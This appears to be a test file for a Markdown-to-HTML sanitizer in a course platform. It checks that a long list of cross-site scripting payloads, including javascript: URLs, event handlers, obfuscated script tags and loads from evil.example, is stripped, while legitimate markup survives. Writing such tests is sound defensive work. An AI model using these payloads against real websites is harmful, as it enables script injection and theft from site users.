"""Author Markdown as HTML: what is meant survives, what could harm does not."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from ladder.core.markdown_engine import render_markdown
from ladder.core.markup import plain_html, to_html, to_inline_html

# Written out by hand, not taken from the code: these may never reach a browser.
DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math", "form", "input", "button", "textarea",
    "select",
    "link", "meta", "base", "template", "slot", "video", "audio", "source", "noscript", "html", "head", "body", "title", "xml",
    "marquee", "portal", "dialog", "canvas",
}
HARMLESS_ATTRIBUTES = {
    "class", "href", "src", "alt", "title", "id", "width", "height", "colspan", "rowspan", "scope", "start", "open", "rel",
    "tabindex",
    "data-link", "data-heading",
}


class Page(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.declarations: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.declarations.append(data)

    handle_decl = unknown_decl = handle_pi = handle_comment

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.elements if name == tag]


def dangers(source: str) -> list[str]:
    """Everything in a piece of HTML that could run, load a frame, restyle the page or shadow a name that scripts look up."""
    page = Page(source)
    found = [f"a declaration {text}" for text in page.declarations]
    for tag, attributes in page.elements:
        found += [f"<{tag}>"] if tag in DANGEROUS_TAGS or not re.fullmatch("[a-z0-9]+", tag) else []
        found += [f"<{tag} {name}>" for name in attributes if name not in HARMLESS_ATTRIBUTES]
        for name in ("href", "src"):
            address = re.sub(r"[\x00-\x20]", "", attributes.get(name, "")).lower()
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
            found += [f"{name}={address}"] if scheme and scheme[1] not in {"http", "https", "mailto"} else []
        found += [f"id={attributes['id']}"] if "id" in attributes and not attributes["id"].startswith("s-") else []
        words = attributes.get("class", "").split()
        found += [f"class={word}" for word in words if not re.fullmatch("ladder-[a-z-]+|tip|note|warning|danger", word)]
    return found


# -- what must not survive ------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "a <script>alert(1)</script> b",
    "> [!tip] <script>alert(1)</script>\n> x",
    "## <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| c | <img src=x onerror=alert(1)> |",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='x' target=_top formaction='javascript:x' ping='//evil.example'>x</a>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; inset: 0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<object data='x'></object><embed src='x'>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>]]><?php x ?><!DOCTYPE html>",
    "<h2 id=csrftoken>x</h2>",
    "<img id=cookie name=getElementById src=x>",
    "<a id=login name=submit href=x>x</a>",
    "<p class='btn btn-danger modal'>x</p>",
    "<div data-usage-id='x' data-action='delete' contenteditable>x</div>",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    "[[x\" onclick=\"alert(1)]]",
    "[[x#\"><script>alert(1)</script>]]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "![\"><script>alert(1)</script>](x.png)",
    "[x](x.png \"onclick=alert(1)\")",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_could_harm_survives(text: str) -> None:
    assert dangers(to_html(text)) == []
    assert dangers(to_inline_html(text)) == []


def test_the_search_for_dangers_finds_them() -> None:
    """The test above would pass for ever if this one did not."""
    unseen = ("<javascript", "<img/src")  # an address and a spelling that only Markdown and browsers take for tags

    assert [text for text in HOSTILE if text.startswith("<") and not text.startswith(unseen) and not dangers(text)] == []


_PIECES = st.sampled_from([
    "<script>", "</script>", "<img src=", "onerror=", "alert(1)", ">", "<", "'", '"', "javascript:", "data:", "[", "](", ")",
    "[[", "]]", "|",
    "`", "```\n", "<svg", "<style>", "</style>", "<!--", "-->", "<p id=", "&#106;", "\n", "\t", "\x00", "## ", "> [!tip] ",
    "*", "<a href=",
    "<math>", "<table>", "&lt;", " ",
])


@settings(max_examples=120)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=4)), max_size=14).map("".join))
def test_no_mixture_of_markup_harms(text: str) -> None:
    assert dangers(to_html(text)) == []
    assert dangers(to_inline_html(text)) == []


# -- what must survive ----------------------------------------------------------------------------------------------


def test_a_table_scrolls_in_its_own_box() -> None:
    page = to_html("| 做法 | 时限 |\n| --- | ---: |\n| **先听** | 48 |\n")

    assert Page(page).elements[:2] == [("div", {"class": "ladder-scroll", "tabindex": "0"}), ("table", {})]
    assert "<td><strong>先听</strong></td>" in page


def test_text_around_a_table_stays_where_it_was() -> None:
    page = to_html("前\n\n| a | b |\n|---|---|\n| c | d |\n\n后\n\n| e | f |\n|---|---|\n| g | h |\n")

    assert re.sub(r"<[^>]+>|\s", "", page) == "前abcd后efgh"


@pytest.mark.parametrize("kind", ["tip", "note", "warning", "danger"])
def test_a_callout_keeps_its_kind_and_title(kind: str) -> None:
    page = to_html(f"> [!{kind}] 记住\n> 先处理心情，再**处理**事情。\n")

    assert Page(page).elements[0] == ("div", {"class": f"ladder-callout {kind}"})
    assert '<p class="ladder-callout-title">记住</p>' in page
    assert "<strong>处理</strong>" in page


@pytest.mark.parametrize(("written", "words", "heading"), [
    ("[[limits]]", "limits", None), ("[[limits#投诉 答复]]", "投诉 答复", "投诉-答复"),
    ("[[limits#投诉|多**久**]]", "多<strong>久</strong>", "投诉"),
])
def test_a_link_carries_its_article_heading_and_words(written: str, words: str, heading: str | None) -> None:
    page = to_html(f"见 {written}。")
    [link] = Page(page).all("a")

    assert (link["class"], link["href"]) == ("ladder-link", "#limits")
    assert (link["data-link"], link.get("data-heading")) == ("limits", heading)
    assert f">{words}</a>" in page


@pytest.mark.parametrize("cell", ["[[limits#投诉|多久]]", r"[[limits#投诉\|多久]]"])
def test_a_link_with_words_fits_in_a_table_cell(cell: str) -> None:
    page = to_html(f"| 问 | 答 |\n| --- | --- |\n| {cell} | 48 |\n")

    assert [link["data-link"] for link in Page(page).all("a")] == ["limits"]
    assert ">多久</a></td>\n<td>48</td>" in page


def test_code_shows_links_as_they_are_written() -> None:
    page = to_html("`[[a|b]]`\n\n```\n[[c|d]]\n```\n")

    assert "<code>[[a|b]]</code>" in page
    assert "[[c|d]]" in page
    assert Page(page).all("a") == []


def test_a_link_to_another_site_tells_it_nothing_about_the_learner() -> None:
    assert Page(to_html("[站](https://example.com/a?b=1&c=2)")).all("a") == [
        {"href": "https://example.com/a?b=1&c=2", "rel": "noopener noreferrer"},
    ]


def test_a_picture_of_the_course_is_found_in_static() -> None:
    page = Page(to_html("![门](door.png) ![远](https://example.com/a.png) ![根](/static/b.png)"))

    assert [picture["src"] for picture in page.all("img")] == ["/static/door.png", "https://example.com/a.png", "/static/b.png"]
    assert page.all("img")[0]["alt"] == "门"


def test_headings_get_anchors_of_our_own() -> None:
    assert to_html("## 投诉答复（48 小时）") == '<h2 id="s-投诉答复-48-小时">投诉答复（48 小时）</h2>'


def test_lists_quotes_code_and_breaks_survive() -> None:
    page = to_html("3. 一\n4. 二\n\n- 甲\n\n> 引\n\n`码` ~~旧~~\n\n---\n\n词\n:   义\n")

    assert '<ol start="3">' in page
    for element in ("ul", "blockquote", "code", "del", "hr", "dl"):
        assert Page(page).all(element), element


def test_one_text_leaves_no_trace_in_the_next() -> None:
    to_html("[x]: https://example.com\n\n<div>\n\n```\n")

    assert to_html("[x]") == "<p>[x]</p>"


# -- on one line ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "shown"), [
    ("48 小时", "48 小时"),
    ("3 > 2 & 1", "3 &gt; 2 &amp; 1"),
    ("a < b", "a &lt; b"),
    ("**先**听", "<strong>先</strong>听"),
    ("`<b>`", "<code>&lt;b&gt;</code>"),
])
def test_a_choice_is_shown_without_a_paragraph(text: str, shown: str) -> None:
    assert to_inline_html(text) == shown


def test_a_choice_of_two_paragraphs_keeps_both() -> None:
    assert to_inline_html("一\n\n二") == "<p>一</p>\n<p>二</p>"


# -- texts without markup -------------------------------------------------------------------------------------------

PROSE = st.text(alphabet="一二三客户Az019 ，。、；：？！“”‘’（）《》—…·,.;:?()%/+={}-", min_size=1, max_size=12)


@settings(max_examples=500)
@given(st.lists(PROSE, max_size=4), st.sampled_from(["\n\n", "\n", "\n\n\n"]))
def test_the_short_way_for_plain_text_ends_where_markdown_does(paragraphs: list[str], between: str) -> None:
    text = between.join(paragraphs)
    plain = plain_html(text)

    assert plain is None or plain == render_markdown(text)


@pytest.mark.parametrize("text", ["客户投诉须在 48 小时内答复。", "答复须在 {{1}} 小时内给出，安装另算（见合同）。", "一\n\n二"])
def test_plain_prose_goes_the_short_way(text: str) -> None:
    assert plain_html(text) is not None


@pytest.mark.parametrize("text", ["", "1. 一", "- 一", "一\n二", "**一**", "[[limits]]", "a < b", "&amp;", "# 一", "一 ", "> 一", ": 一"])
def test_anything_that_may_be_markup_does_not(text: str) -> None:
    assert plain_html(text) is None


@pytest.mark.parametrize(("markdown", "html"), [
    ("先问好，\n再核身", "先问好，再核身"),
    ("先**问好**\n再*核身*", "先<strong>问好</strong>再<em>核身</em>"),
    ("他说“好”\n然后挂断", "他说“好”然后挂断"),
    ("查 CRM\n再答复", "查 CRM\n再答复"),
    ("say “yes”\n“no”", "say “yes”\n“no”"),
    ("第一行  \n第二行", "第一行<br>\n第二行"),
])
def test_a_paragraph_of_chinese_may_be_broken_into_lines_anywhere(markdown: str, html: str) -> None:
    assert to_html(markdown) == f"<p>{html}</p>"


def test_lines_of_code_and_paragraphs_stay_apart() -> None:
    assert "先问好，\n再核身" in to_html("```\n先问好，\n再核身\n```")
    assert to_html("先问好。\n\n再核身。\n\n- 甲\n- 乙").count("\n") == 5


@pytest.mark.parametrize(("markdown", "title"), [
    ("> [!tip]\n> 先问好", "提示"), ("> [!danger]\n> 不要承诺", "危险"), ("> [!note]\n> Say hello", "Note"), ("> [!tip] 记住\n> 先问好", "记住"),
])
def test_a_callout_without_a_title_goes_by_its_kind_in_the_language_of_its_words(markdown: str, title: str) -> None:
    assert f'<p class="ladder-callout-title">{title}</p>' in to_html(markdown)
